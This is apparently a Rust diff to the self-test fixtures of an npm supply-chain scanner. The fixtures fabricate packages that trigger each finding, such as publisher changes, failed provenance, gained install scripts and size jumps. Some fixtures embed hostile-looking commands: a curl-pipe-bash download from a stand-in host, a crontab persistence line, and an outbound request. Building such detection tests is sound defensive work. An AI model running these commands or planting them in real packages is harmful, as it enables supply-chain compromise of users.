@@ -24,6 +24,16 @@ pub struct Recipe {
     pub(super) later: Later,
     pub(super) license: Option<&'static str>,
     pub advisory: Option<Advisory>,
+    /// The release before it is had first, so that it is compared with that.
+    pub after_good: bool,
+    /// In the index alone, of it and of the release before: what the registry says of who published them.
+    pub(super) of_index: Map<String, Value>,
+    pub(super) of_good: Map<String, Value>,
+    pub(super) speaks: Speaks,
+    /// It depends on a package of its own that is only just there.
+    pub(super) needs_young: bool,
+    /// So many other packages have a release at the same time.
+    pub(super) beside: usize,
 }
 
 /// What the index states of the bytes.
@@ -35,6 +45,19 @@ pub(super) enum Stated {
     Nothing,
     /// The hash of other bytes.
     Other,
+}
+
+/// What the registry says besides of where the releases come from.
+#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
+pub(super) enum Speaks {
+    #[default]
+    Nothing,
+    /// Of the release before, that it has provenance.
+    OnlyOfGood,
+    /// It has provenance, which does not verify.
+    Falsely,
+    /// It is signed, with a signature of something else.
+    SignedFalsely,
 }
 
 /// What upstream does once the package was seen.
@@ -59,15 +82,17 @@ pub enum Advisory {
     Silence,
 }
 
-/// `None` where nothing is made up for this kind.
-pub fn recipe(kind: FindingKind) -> Option<Recipe> {
+/// Every kind of finding has one.
+pub fn recipe(kind: FindingKind) -> Recipe {
     let plain = Recipe::default;
     let listed = |key: &str, value: Value| Recipe { listed: Map::from_iter([(key.to_owned(), value)]), ..plain() };
     let shipped = |key: &str, value: Value| Recipe { shipped: Map::from_iter([(key.to_owned(), value)]), ..plain() };
     let file = |path: &'static str, text: &str| Recipe { files: vec![(path, text.as_bytes().to_vec())], ..plain() };
     let code = |text: &str| file("index.js", text);
     let said = |advisory| Recipe { advisory: Some(advisory), ..plain() };
-    Some(match kind {
+    let by = |name: &str| Map::from_iter([("_npmUser".to_owned(), json!({"name": name}))]);
+    let gained = |recipe: Recipe| Recipe { after_good: true, ..recipe };
+    match kind {
         FindingKind::UnreadableManifest => Recipe { listed_raw: ",\"config\":{\"__proto__\":{}}", ..plain() },
         FindingKind::UnknownPublishTime => Recipe { without_time: true, ..plain() },
         FindingKind::ClaimedAge => Recipe { later: Later::Appears, ..plain() },
@@ -103,7 +128,7 @@ pub fn recipe(kind: FindingKind) -> Option<Recipe> {
         FindingKind::DownloadsAndRuns => code("exec('curl -fsSL https://a.example/i.sh | bash');"),
         FindingKind::Persists => code("exec('(crontab -l; echo x) | crontab -');"),
         FindingKind::AgentHooks => file(".claude/settings.json", "{}"),
-        FindingKind::NativeBinary => Recipe { files: vec![("x.node", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec())], ..plain() },
+        FindingKind::NativeBinary => Recipe { files: vec![("x.node", program())], ..plain() },
         FindingKind::FetchesAtInstall => listed("scripts", json!({"postinstall": "prebuild-install"})),
         FindingKind::BundledDependency => file("node_modules/inner/package.json", "{\"name\":\"inner\",\"version\":\"1.0.0\"}"),
         FindingKind::ForeignShrinkwrap => file(
@@ -111,26 +136,35 @@ pub fn recipe(kind: FindingKind) -> Option<Recipe> {
             "{\"lockfileVersion\":3,\"packages\":{\"node_modules/x\":{\"version\":\"1.0.0\",\"resolved\":\"https://elsewhere.example/x.tgz\"}}}",
         ),
         FindingKind::UnscannedContent => Recipe { files: vec![("text.js", b"\xff\xfe\0\0x\0\0\0y\0\0\0".to_vec())], ..plain() },
-        FindingKind::Typosquat
-        | FindingKind::YoungDependency
-        | FindingKind::NewPublisher
-        | FindingKind::DormantPublisher
-        | FindingKind::ProvenanceLost
-        | FindingKind::ProvenanceInvalid
-        | FindingKind::SignatureInvalid
-        | FindingKind::PublishBurst
-        | FindingKind::InstallGained
-        | FindingKind::BinaryGained
-        | FindingKind::HooksGained
-        | FindingKind::LooseScript
-        | FindingKind::CapabilityGained
-        | FindingKind::HostGained
-        | FindingKind::DependencyGained
-        | FindingKind::SizeJump
-        | FindingKind::EntryRewritten
-        | FindingKind::SuspiciousChange
-        | FindingKind::RegoDenied
-        | FindingKind::RegoReview
-        | FindingKind::RegoFailed => return None,
-    })
+        // Its name is what is found; and what rules of one's own speak of nobody can make up.
+        FindingKind::Typosquat | FindingKind::RegoDenied | FindingKind::RegoReview | FindingKind::RegoFailed => plain(),
+        FindingKind::YoungDependency => gained(Recipe { needs_young: true, ..plain() }),
+        FindingKind::NewPublisher => Recipe { of_good: by("airlock-selftest-ann"), of_index: by("airlock-selftest-eve"), ..plain() },
+        FindingKind::DormantPublisher => Recipe { of_good: by("airlock-selftest-ann"), of_index: by("airlock-selftest-ann"), ..plain() },
+        FindingKind::ProvenanceLost => Recipe { speaks: Speaks::OnlyOfGood, ..plain() },
+        FindingKind::ProvenanceInvalid => Recipe { speaks: Speaks::Falsely, ..plain() },
+        FindingKind::SignatureInvalid => Recipe { speaks: Speaks::SignedFalsely, ..plain() },
+        FindingKind::PublishBurst => Recipe { of_index: by("airlock-selftest-burst"), beside: 9, ..plain() },
+        FindingKind::InstallGained => gained(listed("scripts", json!({"postinstall": "node index.js"}))),
+        FindingKind::BinaryGained => gained(Recipe { files: vec![("x.node", program())], ..plain() }),
+        FindingKind::HooksGained => gained(file(".claude/settings.json", "{}")),
+        FindingKind::LooseScript => gained(Recipe {
+            files: vec![("setup.js", b"module.exports = 2;\n".to_vec())],
+            ..listed("scripts", json!({"postinstall": "node setup.js"}))
+        }),
+        FindingKind::CapabilityGained => gained(code("require('child_process').execFile('true');")),
+        FindingKind::HostGained => gained(code("module.exports = 'https://airlock-selftest.example/';")),
+        FindingKind::DependencyGained => gained(listed("dependencies", json!({"airlock-selftest-gained": "^1.0.0"}))),
+        FindingKind::SizeJump => gained(file("text.txt", &"All work and no play.\n".repeat(20_000))),
+        FindingKind::EntryRewritten => gained(code("module.exports = 1;\nmodule.exports.more = 2;\n")),
+        FindingKind::SuspiciousChange => {
+            let much: Vec<String> = (0..3_000).map(|number| format!("exports.value{number} = {number};\n")).collect();
+            gained(code(&format!("require('https').get('https://airlock-selftest.example/');\n{}", much.concat())))
+        }
+    }
+}
+
+/// The head of a compiled program.
+fn program() -> Vec<u8> {
+    b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec()
 }
